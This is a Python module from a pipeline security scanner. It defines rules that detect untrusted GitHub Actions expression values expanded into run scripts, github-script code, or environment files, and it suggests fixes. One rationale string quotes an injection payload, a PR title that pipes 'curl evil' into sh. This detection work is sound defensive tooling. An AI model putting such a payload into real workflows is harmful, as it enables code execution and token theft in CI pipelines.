"""Template injection: controlled values expanded into code before it runs.

``${{ }}`` is substituted into the text of a ``run:`` script, a ``github-script``
``script:`` or a value written to ``$GITHUB_ENV``/``$GITHUB_PATH`` before anything
executes: quoting cannot help, the value *is* the code. Severity follows reachability
(:mod:`gate.checks.pipeline.triggers`) and the flow says from which trigger.
"""

from __future__ import annotations

from collections.abc import Iterator

from gate.checks.pipeline.expressions import expressions
from gate.checks.pipeline.interface import Category, Issue, Kind, PipelineFile
from gate.checks.pipeline.model import Job, Repo, Step, offset_in_block
from gate.checks.pipeline.rule import Rule
from gate.checks.pipeline.rules.common import flow, sink_hop, worst
from gate.checks.pipeline.shell import commands, shell_vars, written_part
from gate.findings import Severity

__all__ = ["SCRIPT_INPUTS", "EnvFileInjection", "RunInjection", "ScriptInputInjection"]

SCRIPT_INPUTS: dict[str, str] = {
    "actions/github-script": "script",
    "azure/cli": "inlinescript",
    "azure/powershell": "inlinescript",
}
"""Actions whose input is code (JavaScript, shell, PowerShell)."""

_BOTH = frozenset({Kind.WORKFLOW, Kind.ACTION})


def _expression_issues(repo: Repo, job: Job, step: Step, text: str, at: tuple[str | int, ...],
                       sink: str, rule_key: str) -> Iterator[Issue]:
    file = job.file
    block = offset_in_block(file, at, 0, text)
    newlines, counted = 0, 0
    seen: set[str] = set()
    for expr in expressions(text):
        taint = worst(repo.taints("${{" + expr.text + "}}", job, step))
        if taint is None or taint.source.ref in seen:
            continue
        seen.add(taint.source.ref)
        newlines += text.count("\n", counted, expr.start)  # expressions come in order
        counted = expr.start
        offset = block + newlines
        shown = " ".join(expr.text.split())[:100]
        end = sink_hop(file, at, offset, f"expanded into {sink}")
        yield Issue(
            detail=f"expands ${{{{ {shown} }}}} ({taint.source.what}, written by "
                   f"{taint.source.controller.value}) into {sink} of {job.id}",
            at=at, key=f"{rule_key}:{job.id}:{step.index}:{taint.source.ref}",
            severity=taint.severity, flow=flow(taint, job, end), line_offset=offset,
            job=job.id, trigger=taint.trigger.name if taint.trigger else "")


class RunInjection(Rule):
    """``${{ }}`` of a controlled value inside ``run:``."""

    id = "GATE-GHA-003"
    title = "Untrusted data expanded into a run script"
    severity = Severity.HIGH
    category = Category.INJECTION
    rationale = ("A PR title like `\"; curl evil | sh #` becomes shell code: the expression is "
                 "substituted before the shell starts, so no quoting helps.")
    fix = ("Pass the value through env: (env: TITLE: ${{ github.event.pull_request.title }}) "
           "and use \"$TITLE\" in the script.")
    incident = ("Ultralytics (Dec 2024): a branch name in `run:` of a pull_request_target "
                "workflow; Nx \"s1ngularity\" (Aug 2025): a PR title in `run:`.")
    kinds = _BOTH
    aliases = ("CKV_GHA_2",)
    zizmor = ("template-injection", "poutine:injection")

    def evaluate(self, file: PipelineFile, repo: Repo) -> Iterator[Issue]:
        for job, step in repo.all_steps(file):
            if step.run:
                yield from _expression_issues(repo, job, step, step.run, (*step.path, "run"),
                                              "a run: script", "run")


class ScriptInputInjection(Rule):
    """``${{ }}`` of a controlled value inside an action input that is code."""

    id = "GATE-GHA-005"
    title = "Untrusted data expanded into a script input (github-script)"
    severity = Severity.HIGH
    category = Category.INJECTION
    rationale = ("`actions/github-script`'s `script:` is JavaScript: a comment body expanded "
                 "into it runs with the job's token (`github` client) in Node.")
    fix = ("Read the value inside the script (context.payload.comment.body) or pass it via "
           "env: and process.env, never as ${{ }} in the code.")
    incident = ("GitHub Security Lab, \"Keeping your GitHub Actions and workflows secure Part 2: "
                "Untrusted input\" (github-script injections found in many repositories).")
    kinds = _BOTH
    zizmor = ("template-injection", "poutine:injection")

    def evaluate(self, file: PipelineFile, repo: Repo) -> Iterator[Issue]:
        for job, step in repo.all_steps(file):
            name = SCRIPT_INPUTS.get(step.action)
            if name is None:
                continue
            for key, value in step.with_.items():
                if str(key).lower() == name and isinstance(value, str):
                    yield from _expression_issues(
                        repo, job, step, value, (*step.path, "with", key),
                        f"the {step.action} {key}: code", "script")


class EnvFileInjection(Rule):
    """A controlled value written to ``$GITHUB_ENV``/``$GITHUB_PATH`` through a variable."""

    id = "GATE-GHA-006"
    title = "Untrusted data written to GITHUB_ENV or GITHUB_PATH"
    severity = Severity.HIGH
    category = Category.INJECTION
    rationale = ("A line written to $GITHUB_ENV defines variables for every later step "
                 "(LD_PRELOAD, NODE_OPTIONS, BASH_ENV); a newline in attacker text adds its own. "
                 "$GITHUB_PATH puts attacker directories first on PATH.")
    fix = ("Do not write attacker-influenced text to $GITHUB_ENV/$GITHUB_PATH in privileged "
           "workflows; validate it (numbers: [[ $X =~ ^[0-9]+$ ]]) or pass it as a step output.")
    incident = ("GitHub Security Lab's advisories on environment-file injection in "
                "workflow_run workflows (2021-2023).")
    kinds = _BOTH
    zizmor = ("github-env",)

    def evaluate(self, file: PipelineFile, repo: Repo) -> Iterator[Issue]:
        for job, step in repo.all_steps(file):
            if not step.run or "GITHUB_" not in step.run.upper():
                continue
            at = (*step.path, "run")
            for command in commands(step.run):
                written = written_part(command.text)
                if not written:
                    continue
                for name in shell_vars(written):
                    if name.upper().startswith("GITHUB_"):
                        continue
                    taint = worst(repo.taints("${{ env." + name + " }}", job, step))
                    if taint is None:
                        continue
                    offset = command.offset + (offset_in_block(file, at, 0, step.run))
                    severity = taint.severity
                    if "GITHUB_OUTPUT" in written.upper() and \
                            "GITHUB_ENV" not in written.upper() and \
                            "GITHUB_PATH" not in written.upper():
                        severity = min(severity, Severity.MEDIUM)
                    end = sink_hop(file, at, offset, f"${name} written to the job's "
                                   "environment file")
                    yield Issue(
                        detail=f"writes ${name} ({taint.source.what}, written by "
                               f"{taint.source.controller.value}) to the environment file in "
                               f"{job.id}",
                        at=at, key=f"env:{job.id}:{step.index}:{name}", severity=severity,
                        flow=flow(taint, job, end), line_offset=offset, job=job.id,
                        trigger=taint.trigger.name if taint.trigger else "")
